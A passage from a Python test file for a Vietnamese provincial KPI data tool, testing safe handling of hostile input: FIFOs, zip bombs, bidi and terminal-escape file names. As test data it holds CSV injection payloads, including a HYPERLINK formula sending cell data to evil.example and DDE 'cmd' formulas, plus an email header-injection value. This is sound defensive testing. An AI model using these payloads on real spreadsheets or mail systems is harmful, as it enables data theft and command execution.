            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse)
    code, lines, err = validate_in_process(raw_copy, capsys)
    assert code == 2
    assert lines == ["kpi_actuals.csv:0:-: cannot be read: permission denied (check the file's owner and mode)"]


@pytest.mark.parametrize("kind", ["fifo", "dev_zero"])
def test_pipe_or_device_is_refused_without_reading(kind, raw_copy):
    """Real CLI calls with a time limit: a FIFO used to block forever, /dev/zero to read until MemoryError."""
    target = raw_copy / "pii_scores.csv"
    target.unlink()
    if kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero")
    result = subprocess.run([sys.executable, "-m", "bnkpi_utils.cli", "validate", "--raw-dir", str(raw_copy)],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    words = "is not a regular file" if kind == "fifo" else "is a symbolic link to /dev/zero, outside the raw-data"
    assert result.stdout.splitlines()[0].startswith(f"pii_scores.csv:0:-: {words}")


def test_file_above_the_size_cap_is_refused_before_reading(raw_copy, monkeypatch, capsys):
    from bnkpi_utils import io as bio

    monkeypatch.setattr(bio, "MAX_FILE_BYTES", 1000)
    code, lines, _ = validate_in_process(raw_copy, capsys)
    assert code == 2
    assert any(line.startswith("kpi_actuals.csv:0:-: is ") and "at most" in line for line in lines), lines


@pytest.mark.parametrize("env", [{"PYTHONIOENCODING": "ascii"},
                                 {"LC_ALL": "POSIX", "LANG": "", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}],
                         ids=["pythonioencoding_ascii", "posix_locale"])
def test_vietnamese_messages_print_in_an_ascii_terminal(env, raw_copy):
    plant_unknown_province(raw_copy)  # the message quotes 'Bắc Giang'
    result = run_bnkpi("validate", "--raw-dir", str(raw_copy), env=env)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "did you mean 'B\\u1eafc Giang'" in result.stdout


def test_line_break_in_an_address_is_a_usage_error():
    result = run_bnkpi("send", "--to", "a@bacninh.example\r\nBcc: victim@evil.example", "--smtp-host", "127.0.0.1",
                       "--dry-run")
    assert result.returncode == 64
    assert "Traceback" not in result.stderr
    assert "line breaks and NUL are not allowed in an address" in result.stderr


def test_unexpected_error_is_one_paragraph_and_a_log(monkeypatch, capsys, tmp_path):
    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cli, "validate_raw", broken)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    assert cli.main(["validate"]) == 1
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert len(err.strip().splitlines()) == 1
    assert "No space left on device" in err
    logs = list(tmp_path.glob("bnkpi-error-*.log"))
    assert len(logs) == 1 and "Traceback" in logs[0].read_text(encoding="utf-8")


# --------------------------------------------------------------------------------------------------------------
# CSV injection: text from the data that a spreadsheet would run as a formula is written inert (OWASP rule).

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"Nguồn chính thức")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _live_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a formula character and not just a number."""
    import csv
    import re

    with path.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", c)]


def test_formula_payloads_are_inert_in_assessment_and_sources(raw_copy, tmp_path):
    from bnkpi_utils import clean, targets
    from bnkpi_utils.io import read_processed, write_table
    from bnkpi_utils.validate import validate_raw

    kh16 = _find(raw_copy, "targets.csv", target_id="KH20-16")
    kh11 = _find(raw_copy, "targets.csv", target_id="KH20-11")
    _edit(raw_copy, "targets.csv", kh16, name_en=PAYLOADS[0], agency=PAYLOADS[1], document=PAYLOADS[2])
    _edit(raw_copy, "targets.csv", kh11, name_vi=PAYLOADS[3], name_en="\t=1+1")
    _edit(raw_copy, "kpi_actuals.csv", 20, source=PAYLOADS[0])
    validated = validate_raw(raw_copy)
    assert validated.ok, validated.problems[:3]
    cleaned = clean.clean_all(validated)
    sources = write_table(clean.source_summary(validated), tmp_path / "data_sources.csv")
    assessment = targets.assess(cleaned.tables["targets"], cleaned.tables["kpi_actuals"], cleaned.tables["macro"])
    written = write_table(assessment, tmp_path / "targets_assessment.csv")

    for path in (sources, written):
        assert _live_cells(path) == [], path.name
    text = written.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "'@SUM(" in text and "'+cmd|" in text and "'-2+3+cmd" in text
    # real negative numbers stay numbers, and reading the table back gives the text as it was
    back = read_processed(written)
    row = back[back["target_id"] == "KH20-16"].iloc[0]
    assert (row["name_en"], row["agency"], row["document"]) == tuple(PAYLOADS[:3])
    assert back[back["target_id"] == "KH20-11"]["name_vi"].iloc[0] == PAYLOADS[3]


def test_neutralising_keeps_numbers_and_round_trips(tmp_path):
    import pandas as pd

    from bnkpi_utils.io import read_processed, write_table

    df = pd.DataFrame({"value": [-17.5, 3.0, -0.25], "note": ["-17", "=1+1", "'=already quoted"],
                       "source": ["+84 222 3822 xxx", "@handle", "plain"]})
    path = write_table(df, tmp_path / "t.csv")
    assert path.read_text(encoding="utf-8").splitlines() == [
        "value,note,source", "-17.5,-17,'+84 222 3822 xxx", "3.0,'=1+1,'@handle", "-0.25,''=already quoted,plain"]
    back = read_processed(path)
    assert back["value"].tolist() == [-17.5, 3.0, -0.25]
    assert back["note"].tolist() == ["-17", "=1+1", "'=already quoted"]
    assert back["source"].tolist() == df["source"].tolist()


def test_workbook_without_the_columns_on_any_sheet_names_the_sheets(raw_copy, capsys):
    def edit(book, header):
        notes = book.create_sheet("Hướng dẫn", 0)
        notes.append(["Điền số liệu vào trang tính 'Sheet'."])
        book["Sheet"].cell(row=1, column=header.index("unit") + 1, value="units")
    _kpi_to_xlsx(raw_copy, edit=edit)
    code, lines, _ = validate_in_process(raw_copy, capsys)
    assert code == 2
    assert lines == ["kpi_actuals.xlsx:1:-: no sheet of the workbook ('Hướng dẫn', 'Sheet') has the table's columns "
                     "in its first row; the closest, 'Sheet', lacks: unit"]


def test_a_run_that_cannot_write_its_outputs_says_why_in_one_paragraph(raw_copy, tmp_path, capsys):
    """An output folder under a regular file (like a read-only or full disk: the OS refuses the write)."""
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    code = cli.main(["run", "--raw-dir", str(raw_copy), "--output-dir", str(blocker / "outputs"),
                     "--processed-dir", str(tmp_path / "processed"), "--quiet"])
    out, err = capsys.readouterr()
    assert code in (1, 64)  # 64 once the runner refuses such folders up front
    assert "Traceback" not in out + err
    assert len(err.strip().splitlines()) == 1 and "a-file" in err
    assert blocker.read_text(encoding="utf-8") == "not a folder"


def test_today_bounds_what_can_be_measured():
    """With 31 Dec 2024 as today, exactly the shipped actual values, figures and editions dated later are refused
    (counted here from the raw files with the csv module, independently of the validator)."""
    import csv
    import datetime as dt

    from bnkpi_utils.validate import validate_raw

    def rows(pattern):  # the table's file and its supplements (NAME_*.csv)
        for path in sorted(RAW.glob(pattern)):
            with path.open(encoding="utf-8-sig", newline="") as fh:
                yield from ((path.name, row) for row in csv.DictReader(fh))

    expected = sorted(
        [(f, "year") for f, r in rows("kpi_actuals*.csv") if r["kind"] == "actual" and int(r["year"]) > 2024]
        + [(f, "year") for f, r in rows("macro*.csv") if int(r["year"][-4:]) > 2024]
        + [(f, "edition") for f, r in rows("pii_scores.csv") if int(r["edition"]) > 2024])
    assert len(expected) > 10
    result = validate_raw(RAW, today=dt.date(2024, 12, 31))
    future = sorted((p.file, p.column) for p in result.problems if "after today" in p.message)
    assert future == expected
    assert validate_raw(RAW, today=dt.date(2026, 11, 23)).ok


RUN_KINDS = ["header_only_targets", "pii_without_bac_ninh", "xlsx_1e308", "future_actual", "unclosed_quote_swallows_rows"]


@pytest.mark.parametrize("kind", RUN_KINDS)
def test_run_on_input_that_used_to_crash_or_pass_exits_2_and_changes_nothing(kind, raw_copy, good_run, tmp_path):
    """Kinds that made a notebook die, or changed statuses silently, now stop `bnkpi run` before any notebook."""
    plant = next(row[1] for row in CORPUS if row[0] == kind)
    prefix = plant(raw_copy)
    previous = tmp_path / "previous"
    before = copy_previous(good_run, previous)
    run = run_bnkpi("run", "--raw-dir", str(raw_copy), "--output-dir", str(previous / "outputs"),
                    "--processed-dir", str(previous / "processed"))
    assert run.returncode == 2, run.stderr
    assert "Traceback" not in run.stderr
    assert prefix in run.stderr
    assert snapshot(previous) == before


# --------------------------------------------------------------------------------------------------------------
# Numbers, text and workbooks (the review of December 2026): more raw-file kinds for CORPUS, then WORKBOOK_CORPUS,
# the same table for the workbooks agencies return in the data round (RAW/reports/YYYY-QN/*.xlsx), which are held
# to the same semantic rules as the raw tables (bnkpi_utils/semantic.py) with messages in Vietnamese.

def _zip_parts(path: Path) -> dict[str, bytes]:
    import zipfile

    with zipfile.ZipFile(path) as book:
        return {name: book.read(name) for name in book.namelist()}


def _write_parts(path: Path, parts: dict[str, bytes]) -> None:
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in parts.items():
            book.writestr(name, data)


def _stale_dimension(path: Path, ref: str = "A1:I50") -> None:
    """What many exporters write: a <dimension> that does not cover every row (openpyxl's read-only mode trusts it)."""
    import re

    parts = _zip_parts(path)
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = re.sub(rb"<dimension ref=\"[^\"]*\"\s*/>", f'<dimension ref="{ref}"/>'.encode(),
                                               sheet)
    assert parts["xl/worksheets/sheet1.xml"] != sheet
    _write_parts(path, parts)


def _stray_cell(path: Path, sheet_part: str = "xl/worksheets/sheet1.xml", ref: str = "XFD1048576") -> None:
    """One cell far away from the table (typed by mistake), as a spreadsheet stores it."""
    parts = _zip_parts(path)
    row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    parts[sheet_part] = parts[sheet_part].replace(
        b"</sheetData>", f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'.encode())
    _write_parts(path, parts)


def bad_space_inside_growth_rate(raw):
    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='6 5')}:value"


def bad_spaces_not_in_thousands(raw):
    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='6 72 00')}:value"


def bad_percent_in_billion_vnd_row(raw):
    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='35%')}:value"


def bad_bidi_override_in_source(raw):
    row = _edit(raw, "kpi_actuals.csv", 20, source="Báo cáo \u202e9 ốs")
    return f"kpi_actuals.csv:{row}:source"


def bad_pillar_missing_for_home_province(raw):
    header, rows = read_rows(raw / "pii_scores.csv")
    kept = [r for r in rows if not (r["edition"] == "2025" and r["province"] == "Bắc Ninh" and r["component"] == "P3")]
    assert len(kept) == len(rows) - 1
    write_rows(raw / "pii_scores.csv", header, kept)
    index = _find(raw, "pii_scores.csv", edition="2025", province="Bắc Ninh", component="PII")
    return f"pii_scores.csv:{sheet_row(index)}:component"


def bad_xlsx_stale_dimension_hides_a_bad_row(raw):
    header, rows = read_rows(raw / "kpi_actuals.csv")

    def edit(book, header):
        book.active.cell(row=len(rows) + 1, column=header.index("region") + 1, value="Hà Nôi Nôi")
    _kpi_to_xlsx(raw, edit=edit)
    _stale_dimension(raw / "kpi_actuals.xlsx")
    return f"kpi_actuals.xlsx:{len(rows) + 1}:region"


def bad_xlsx_data_sheet_hidden(raw):
    def edit(book, header):
        notes = book.create_sheet("Hướng dẫn", 0)
        notes.append(["Điền số liệu vào trang tính 'Sheet'."])
        book["Sheet"].sheet_state = "hidden"
        book.active = 0
    _kpi_to_xlsx(raw, edit=edit)
    return "kpi_actuals.xlsx:0:-"


def bad_xlsx_stray_cell_far_away(raw):
    _kpi_to_xlsx(raw)
    _stray_cell(raw / "kpi_actuals.xlsx")
    return "kpi_actuals.xlsx:0:-"


def good_year_with_decimal_zero_and_full_width_score(raw):
    _edit(raw, "kpi_actuals.csv", 30, year=_find_value(raw, "kpi_actuals.csv", 30, "year") + ".0")
    index = _find(raw, "pii_scores.csv", edition="2025", province="Bắc Ninh", component="PII")
    _edit(raw, "pii_scores.csv", index, score="４８.７６")


def _find_value(raw: Path, name: str, index: int, column: str) -> str:
    return read_rows(raw / name)[1][index][column]


def good_province_in_nfd_and_without_diacritics(raw):
    import unicodedata

    index = _find(raw, "pii_scores.csv", edition="2025", province="Bắc Ninh", component="PII")
    _edit(raw, "pii_scores.csv", index, province=unicodedata.normalize("NFD", "Bắc Ninh") + " \t\u00a0")
    _edit(raw, "kpi_actuals.csv", 30, region="Bac Ninh")


def bad_no_growth_target(raw):
    header, rows = read_rows(raw / "targets.csv")
    write_rows(raw / "targets.csv", header, [r for r in rows if r["indicator"] != "grdp_growth_pct"])
    return "targets.csv:0:indicator"


INPUT_CORPUS = [
    ("space_inside_growth_rate", bad_space_inside_growth_rate, 2, "groups of three digits"),
    ("spaces_not_in_thousands", bad_spaces_not_in_thousands, 2, "groups of three digits"),
    ("percent_in_billion_vnd_row", bad_percent_in_billion_vnd_row, 2, "percent sign"),
    ("bidi_override_in_source", bad_bidi_override_in_source, 2, "U+202E"),
    ("pillar_missing_for_home_province", bad_pillar_missing_for_home_province, 2, "P3 (Infrastructure)"),
    ("xlsx_stale_dimension_hides_a_bad_row", bad_xlsx_stale_dimension_hides_a_bad_row, 2, "unknown province"),
    ("no_growth_target", bad_no_growth_target, 2, "notebook 03"),
    ("xlsx_data_sheet_hidden", bad_xlsx_data_sheet_hidden, 2, "is hidden"),
    ("xlsx_stray_cell_far_away", bad_xlsx_stray_cell_far_away, 2, "XFD1048576"),
    ("year_with_decimal_zero_and_full_width_score", good_year_with_decimal_zero_and_full_width_score, 0, None),
    ("province_in_nfd_and_without_diacritics", good_province_in_nfd_and_without_diacritics, 0, None),
    ("space_thousands_in_vietnamese_notation", lambda raw: _edit(raw, "macro.csv", _find(
        raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current"), value="67 200 000"), 0, None),
]


@pytest.mark.parametrize("kind, plant, exit_code, words", INPUT_CORPUS, ids=[c[0] for c in INPUT_CORPUS])
def test_input_corpus(kind, plant, exit_code, words, raw_copy, capsys):
    """More raw-file kinds, checked exactly like CORPUS."""
    test_corpus(kind, plant, exit_code, words, raw_copy, capsys)


def test_run_with_a_pillar_missing_stops_before_any_notebook(raw_copy, good_run, tmp_path):
    """A pillar of the latest edition missing used to pass validation and end the run in notebook 02 (KeyError: 'P1')."""
    prefix = bad_pillar_missing_for_home_province(raw_copy)
    previous = tmp_path / "previous"
    before = copy_previous(good_run, previous)
    run = run_bnkpi("run", "--raw-dir", str(raw_copy), "--output-dir", str(previous / "outputs"),
                    "--processed-dir", str(previous / "processed"))
    assert run.returncode == 2, run.stderr
    assert prefix in run.stderr and "Traceback" not in run.stderr
    assert snapshot(previous) == before


def test_a_stale_dimension_drops_no_row(raw_copy):
    """107 rows under a sheet that declares A1:I50: all 107 are read (openpyxl's read-only mode read 49)."""
    from bnkpi_utils.validate import validate_raw

    _, rows = read_rows(raw_copy / "kpi_actuals.csv")
    _kpi_to_xlsx(raw_copy)
    _stale_dimension(raw_copy / "kpi_actuals.xlsx")
    result = validate_raw(raw_copy)
    assert result.ok, result.problems[:3]
    kpi = result.tables["kpi_actuals"]
    assert (kpi["_file"] == "kpi_actuals.xlsx").sum() == len(rows) == 107


def _bomb(path: Path, rows: int) -> None:
    """A workbook whose one sheet unpacks to ``rows`` rows of repeated XML: a few hundred KB packed."""
    import zipfile

    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["indicator", "region", "year", "value", "unit", "kind", "source"])
    book.save(path)
    parts = _zip_parts(path)
    head, tail = parts["xl/worksheets/sheet1.xml"].split(b"</sheetData>")
    head = head.split(b"<sheetData>")[0] + b"<sheetData>"
    row = b'<row><c t="inlineStr"><is><t>st_works_accepted_per_year</t></is></c><c><v>2020</v></c></row>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(name, data)
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(head)
            block = row * 10_000
            for _ in range(rows // 10_000):
                sheet.write(block)
            sheet.write(b"</sheetData>" + tail)


@pytest.mark.parametrize("rows, words", [(2_000_000, "unpacks to"), (1_000_000, "at most 100,000 rows")],
                         ids=["beyond_the_unpacked_size", "beyond_the_rows"])
def test_a_zip_bomb_is_refused_in_seconds(rows, words, raw_copy, capsys):
    import time

    path = raw_copy / "kpi_actuals_bomb.xlsx"
    _bomb(path, rows)
    assert path.stat().st_size < 2_000_000
    started = time.monotonic()
    code, lines, err = validate_in_process(raw_copy, capsys)
    assert time.monotonic() - started < 20
    assert code == 2 and "Traceback" not in err
    assert [line for line in lines if line.startswith("kpi_actuals_bomb.xlsx:0:-:") and words in line], lines


def test_a_stray_cell_costs_no_more_than_the_cells_that_exist(raw_copy, capsys):
    """Refused from a streaming count of the cells, before parsing: about as fast as the file without it."""
    import time

    from bnkpi_utils.validate import validate_raw

    _kpi_to_xlsx(raw_copy)
    started = time.monotonic()
    assert validate_raw(raw_copy).ok
    plain = time.monotonic() - started
    _stray_cell(raw_copy / "kpi_actuals.xlsx")
    started = time.monotonic()
    result = validate_raw(raw_copy)
    assert time.monotonic() - started < plain + 5
    assert [str(p) for p in result.problems] == [
        "kpi_actuals.xlsx:0:-: the sheet 'Sheet' has a cell at XFD1048576: a sheet may have at most 100,000 rows. "
        "Delete the rows and columns beyond the table (or the stray cell) and save the file again; nothing of it "
        "was read"]


# ---- returned workbooks

REPORT_PERIOD = "2026-Q4"
FUTURE_YEAR = _dt.date.today().year + 1  # still within the years a workbook accepts (up to 2030)


def _report(raw: Path, rows: list[dict], name: str = "so-khcn.xlsx", period: str = REPORT_PERIOD, edit=None,
            folder: Path | None = None) -> Path:
    """A returned workbook as the department's request writes it (keys in row 1, labels in row 2, data from row 3),
    filled with ``rows``; saved in RAW/reports/PERIOD/ (or ``folder``)."""
    import openpyxl

    from bnkpi_utils import data_round

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = data_round.SHEET
    sheet.append(list(data_round.COLUMNS))
    sheet.append(list(data_round.LABELS_VI))
    for row in rows:
        sheet.append([row.get(c) for c in data_round.COLUMNS])
    guide = book.create_sheet(data_round.GUIDE_SHEET)
    guide.append(["Cơ quan báo cáo", "Sở KH&CN"])
    guide.append(["Kỳ báo cáo", period])
    if edit:
        edit(book)
    target = (folder or raw / "reports" / period) / name
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    return target


def _works(**changes) -> dict:
    """A filled row of KH20-01 (scientific works accepted in a year, a count)."""
    return {**dict(target_id="KH20-01", indicator="st_works_accepted_per_year", name_vi="Công trình được nghiệm thu",
                   region="Bắc Ninh", year=2025, value=45, unit="Công trình", kind="actual",
                   source="Báo cáo số 9/BC-SKHCN ngày 05/12/2026"), **changes}


def _where(period: str = REPORT_PERIOD, name: str = "so-khcn.xlsx") -> str:
    return f"reports/{period}/{name}"


def bad_report_actual_for_a_later_year(raw):
    _report(raw, [_works(), _works(year=FUTURE_YEAR, value=60)])
    return f"{_where()}:4:year"


def bad_report_count_1e308(raw):
    _report(raw, [_works(value=1e308)])
    return f"{_where()}:3:value"


def bad_report_infinite_count(raw):
    path = _report(raw, [_works(value=123456.5)])
    parts = _zip_parts(path)
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"<v>123456.5</v>", b"<v>1E+309</v>")
    _write_parts(path, parts)
    return f"{_where()}:3:value"


def bad_report_rank_50_of_34(raw):
    _report(raw, [dict(target_id="KH20-11", indicator="pii_rank", name_vi="Xếp hạng PII", region="Bắc Ninh",
                       year=2025, value=50, unit="Thứ bậc", kind="actual", source="Quyết định 2163/QĐ-BKHCN")])
    return f"{_where()}:3:value"


def bad_report_period_in_the_future(raw):
    _report(raw, [_works()], period="2099-Q4")
    return f"{_where('2099-Q4')}:0:-"


def bad_report_fifo(raw):
    (raw / "reports" / REPORT_PERIOD).mkdir(parents=True)
    os.mkfifo(raw / "reports" / REPORT_PERIOD / "so-khcn.xlsx")
    return f"{_where()}:0:-"


def bad_report_folder_named_like_a_workbook(raw):
    (raw / "reports" / REPORT_PERIOD / "x.xlsx").mkdir(parents=True)
    return f"{_where(name='x.xlsx')}:0:-"


def bad_report_link_to_a_workbook_outside(raw):
    outside = _report(raw, [_works()], folder=raw.parent / "outside")
    (raw / "reports" / REPORT_PERIOD).mkdir(parents=True)
    (raw / "reports" / REPORT_PERIOD / "so-khcn.xlsx").symlink_to(outside)
    return f"{_where()}:0:-"


def bad_report_period_folder_linked_outside(raw):
    outside = _report(raw, [_works()], folder=raw.parent / "outside")
    (raw / "reports").mkdir()
    (raw / "reports" / REPORT_PERIOD).symlink_to(outside.parent)
    return f"reports/{REPORT_PERIOD}:0:-"


def bad_reports_folder_linked_outside(raw):
    _report(raw, [_works()], folder=raw.parent / "outside" / REPORT_PERIOD)
    (raw / "reports").symlink_to(raw.parent / "outside")
    return "reports:0:-"


def bad_report_data_on_a_hidden_sheet(raw):
    def edit(book):
        book.active = 1
        book.worksheets[0].sheet_state = "hidden"
    _report(raw, [_works()], edit=edit)
    return f"{_where()}:0:-"


def bad_report_bidi_override_in_source(raw):
    _report(raw, [_works(source="Báo cáo \u202e9 ốs")])
    return f"{_where()}:3:source"


def bad_report_row_below_a_stale_dimension(raw):
    path = _report(raw, [_works(year=2021), _works(year=2022), _works(year=2023, kind="guess")])
    _stale_dimension(path, "A1:J4")
    return f"{_where()}:5:kind"


def bad_report_stray_cell_far_away(raw):
    path = _report(raw, [_works()])
    _stray_cell(path)
    return f"{_where()}:0:-"


def good_report(raw):
    _report(raw, [_works()])


def good_report_and_excel_lock_file(raw):
    _report(raw, [_works()])
    (raw / "reports" / REPORT_PERIOD / "~$so-khcn.xlsx").write_bytes(b"\x0bSo KHCN" + b" " * 150)


WORKBOOK_CORPUS = [
    ("report_actual_for_a_later_year", bad_report_actual_for_a_later_year, 2, "sau hôm nay"),
    ("report_count_1e308", bad_report_count_1e308, 2, "con số dùng được"),
    ("report_infinite_count", bad_report_infinite_count, 2, "con số dùng được"),
    ("report_rank_50_of_34", bad_report_rank_50_of_34, 2, "34 tỉnh"),
    ("report_period_in_the_future", bad_report_period_in_the_future, 2, "chưa bắt đầu"),
    ("report_folder_named_like_a_workbook", bad_report_folder_named_like_a_workbook, 2, "là một thư mục"),
    ("report_link_to_a_workbook_outside", bad_report_link_to_a_workbook_outside, 2, "ngoài thư mục dữ liệu gốc"),
    ("report_period_folder_linked_outside", bad_report_period_folder_linked_outside, 2, "ngoài thư mục dữ liệu gốc"),
    ("reports_folder_linked_outside", bad_reports_folder_linked_outside, 2, "ngoài thư mục dữ liệu gốc"),
    ("report_data_on_a_hidden_sheet", bad_report_data_on_a_hidden_sheet, 2, "đang bị ẩn"),
    ("report_bidi_override_in_source", bad_report_bidi_override_in_source, 2, "U+202E"),
    ("report_row_below_a_stale_dimension", bad_report_row_below_a_stale_dimension, 2, "guess"),
    ("report_stray_cell_far_away", bad_report_stray_cell_far_away, 2, "XFD1048576"),
    ("report", good_report, 0, None),
    ("report_and_excel_lock_file", good_report_and_excel_lock_file, 0, None),
]


@pytest.mark.parametrize("kind, plant, exit_code, words", WORKBOOK_CORPUS, ids=[c[0] for c in WORKBOOK_CORPUS])
def test_workbook_corpus(kind, plant, exit_code, words, raw_copy, capsys):
    test_corpus(kind, plant, exit_code, words, raw_copy, capsys)


def test_a_pipe_among_the_returned_workbooks_is_reported_without_reading(raw_copy):
    """A real CLI call with a time limit: whatever reads the returned workbooks (validation, the annotated copies
    `bnkpi validate` writes) must never open a FIFO, which blocks until a writer comes."""
    expected = bad_report_fifo(raw_copy)
    result = subprocess.run([sys.executable, "-m", "bnkpi_utils.cli", "validate", "--raw-dir", str(raw_copy)],
                            capture_output=True, text=True, timeout=60, cwd=raw_copy.parent)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert [line for line in result.stdout.splitlines() if line.startswith(expected)] == [
        f"{expected}: không phải tệp thông thường (ống dẫn FIFO, thiết bị hoặc socket): không đọc"]


@pytest.mark.parametrize("name", ["x\nmacro.csv:1:-: ok.xlsx", "\x1b[2J\x1b]0;pwned\x07so-khcn.xlsx",
                                  "b\u00e1o-c\u00e1o-\u202eslx.xlsx"], ids=["line_break", "escape_sequences", "bidi"])
def test_a_file_name_from_outside_prints_as_one_escaped_line(name, raw_copy, capsys):
    """The name of a returned workbook (an e-mail attachment's) cannot forge a line or drive the terminal."""
    from bnkpi_utils.safe_text import escape

    _report(raw_copy, [_works(kind="guess")], name=name)
    code, lines, err = validate_in_process(raw_copy, capsys)
    assert code == 2
    assert lines == [line for line in lines if line.startswith(f"reports/{REPORT_PERIOD}/{escape(name)}:3:kind: ")]
    assert len(lines) == 1
    assert not any(c in "\n".join(lines) + err for c in "\x1b\x07\u202e")
    assert "\\x1b" in escape(name) or "\\n" in escape(name) or "U+202E" in escape(name)

